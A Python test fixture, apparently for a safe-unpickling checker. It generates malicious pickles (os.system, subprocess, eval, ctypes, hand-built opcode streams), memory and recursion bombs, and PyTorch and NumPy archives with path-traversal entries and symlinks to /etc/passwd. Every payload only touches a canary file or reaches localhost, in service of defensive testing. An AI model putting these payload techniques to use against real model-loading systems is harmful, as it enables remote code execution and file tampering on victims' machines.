"""Pickles that do harm where they are run, in every wrapping in which a pickle comes.

Each has a canary: a file that it makes, or a forbidden call that an audit hook sees. `alive` runs one with Python's own
unpickler, so that it is known which of them would have done something.
"""

from __future__ import annotations

import ctypes
import functools
import importlib
import io
import os
import pickle
import pty
import runpy
import shutil
import socket
import struct
import subprocess
import tarfile
import urllib.request
import webbrowser
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

CODE = "open({canary!r}, 'w').close()"


class Call:
    """Pickles as a call of `function`, and a state that is set afterwards where there is one."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.call = (function, arguments, state) if state is not None else (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call

    def __call__(self) -> None:
        """Only things that can be called may be pickled as what is called."""


def calls(canary: str) -> dict[str, Any]:
    """What is pickled, by name; each makes the canary, or starts or reaches something."""
    import torch

    touch, code = f"touch {canary}", CODE.format(canary=canary)
    inner = pickle.dumps(Call(os.system, touch))
    stored = io.BytesIO()
    torch.save(Call(os.system, touch), stored)
    return {
        "os.system": Call(os.system, touch),
        "os.popen": Call(os.popen, touch),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", canary]),
        "subprocess.run": Call(subprocess.run, ["touch", canary]),
        "pty.spawn": Call(pty.spawn, ["touch", canary]),
        "os.posix_spawn": Call(os.posix_spawn, "/usr/bin/touch", ["touch", canary], {}),
        "builtins.eval": Call(eval, code),
        "builtins.exec": Call(exec, code),
        "builtins.open": Call(open, canary, "w"),
        "builtins.__import__": Call(Call(getattr, Call(__import__, "os"), "system"), touch),
        "importlib": Call(Call(getattr, Call(importlib.import_module, "os"), "system"), touch),
        "runpy": Call(runpy.run_path, f"{canary}.py"),
        "partial": Call(functools.partial(os.system, touch)),
        "map": Call(list, Call(map, os.system, [touch])),
        "Path.write_text": Call(Path.write_text, Path(canary), "x"),
        "os.symlink": Call(os.symlink, "/etc/passwd", canary),
        "os.mkdir": Call(os.mkdir, canary),
        "shutil.copy": Call(shutil.copy, "/etc/hostname", canary),
        "socket": Call(socket.create_connection, ("127.0.0.1", 9)),
        "urllib": Call(urllib.request.urlopen, "http://127.0.0.1:9/"),
        "webbrowser": Call(Call(getattr, Call(webbrowser.get, f"touch {canary} %s"), "open"), "x"),
        "ctypes": Call(Call(getattr, Call(ctypes.CDLL, None), "system"), touch.encode()),
        "pickle.loads": Call(pickle.loads, inner),
        "numpy.load": Call(np.load, f"{canary}.npy", None, True),
        "torch.storage": Call(torch.storage._load_from_bytes, stored.getvalue()),
        "torch.load": Call(torch.load, f"{canary}.pt", None, weights_only_off()),
        "torch.hub": Call(torch.hub.load_state_dict_from_url, "http://127.0.0.1:9/x.pt"),
        "state": Call(OrderedDict, state={"x": Call(os.system, touch)}),
        "key": {b"data": 1, ("a", Call(os.system, touch)): 2},
        "nested": [{"a": (1, [Call(os.system, touch)])}],
        "objects": objects(Call(os.system, touch)),
    }


def weights_only_off() -> Any:
    """The pickle module, which makes torch's reader use it."""
    return Call(__import__, "pickle")


def objects(inside: Any) -> Any:
    """An array that holds an object."""
    array = np.empty((1, 1), dtype=object)
    array[0, 0] = inside
    return array


def by_hand(canary: str) -> dict[str, bytes]:
    """Pickles in instructions that no pickler writes today, or whose numbers lie."""
    touch = f"touch {canary}".encode()
    text = b"X" + struct.pack("<I", len(touch)) + touch
    zip_like = b"PK\x03\x04"
    return {
        "INST": b"\x80\x02(" + text + b"ios\nsystem\n.",
        "OBJ": b"\x80\x02(cos\nsystem\n" + text + b"o.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n]" + text + b"a\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n]" + text + b"a\x85}\x92.",
        "GLOBAL": b"cos\nsystem\n(" + text + b"tR.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + text + b"\x85R.",
        "dotted": b"\x80\x04\x8c\x02os\x8c\x10path.os.system.x\x93" + text + b"\x85R.",
        "import alone": f"c{Path(canary).name}_module\nx\n.".encode(),
        "extension": b"\x80\x02\x82\x01.",
        "PERSID": b"P/etc/passwd\n.",
        "BINPERSID": b"\x80\x02" + text + b"Q.",
        "BUILD": b"\x80\x02cos\nsystem\n}X\x01\x00\x00\x00a" + text + b"sb.",
        "memo": b"\x80\x04K\x01r\xf0\xff\xff\xff.",
        "bytes of a terabyte": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"x.",
        "text of a terabyte": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"x.",
        "number of gigabytes": b"\x80\x02\x8b\xff\xff\xff\x7f1.",
        "digits": b"\x80\x02L" + b"9" * 100_000 + b"L\n.",
        "frame": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"x.",
        "deep": b"\x80\x02" + b"(" * 200_000 + b"t" * 200_000 + b".",
        "lists of lists": b"\x80\x04]\x94" + b"h\x00h\x00\x86\x94" * 60 + b"\x93.",
        "laughs": b"\x80\x04" + b"".join(b"](" + b"h%c" % max(0, n - 1) * 10 + b"e\x94" for n in range(60)) + b".",
        "buffer": b"\x80\x05\x97\x98.",
        "zip": zip_like + b"\x80\x02cos\nsystem\n" + text + b"\x85R.",
        "nothing": b"",
    }


def pickles(canary: str) -> dict[str, bytes]:
    """All attacks: each call in three protocols, and those made by hand."""
    made = {
        f"{name}, protocol {protocol}": pickle.dumps(call, protocol)
        for protocol in (0, 2, 4)
        for name, call in calls(canary).items()
    }
    inside = {
        f"{name}, in a batch": pickle.dumps({b"data": call, b"labels": [1]}, 2) for name, call in calls(canary).items()
    }
    return {**made, **inside, **by_hand(canary)}


def npy(data: bytes) -> bytes:
    """A `.npy` of one object."""
    stream = io.BytesIO()
    np.lib.format.write_array_header_1_0(stream, {"descr": "|O", "fortran_order": False, "shape": ()})
    return stream.getvalue() + data


def npz(data: bytes) -> bytes:
    return zipped({"clean_label.npy": npy(data)})


def zipped(entries: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return stream.getvalue()


def torch_zip(data: bytes) -> bytes:
    """A `.pt` of today, with members that would leave the folder where it were unpacked."""
    others = {"x/byteorder": b"little", "x/version": b"3\n", "../../canary": b"x", "/tmp/canary": b"x"}
    return zipped({"x/data.pkl": data, "x/data/0": b"0" * 64, **others})


def torch_zip_of_two(data: bytes) -> bytes:
    return zipped({"x/data.pkl": pickle.dumps({}), "y/data.pkl": data, "x/version": b"3\n", "data.pkl": data})


def torch_legacy(data: bytes) -> bytes:
    """A `.pt` from before PyTorch 1.6, with what it lays before the content."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + data


def torch_tar(data: bytes) -> bytes:
    """A `.pt` from before PyTorch 0.1.10: a tar of pickles."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name in ("sys_info", "pickle", "storages", "tensors", "../../canary"):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        link = tarfile.TarInfo("storages2")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return stream.getvalue()


def after_its_head(data: bytes) -> bytes:
    """As the magic number of a legacy `.pt` itself."""
    return data * 4


WRAPPINGS: dict[str, Callable[[bytes], bytes]] = {
    "bare": bytes,
    "npy": npy,
    "npz": npz,
    "torch zip": torch_zip,
    "torch zip of two": torch_zip_of_two,
    "torch legacy": torch_legacy,
    "torch tar": torch_tar,
    "four times": after_its_head,
}


def alive(data: bytes) -> None:
    """Run a pickle: what nobody should do."""
    pickle.loads(data)
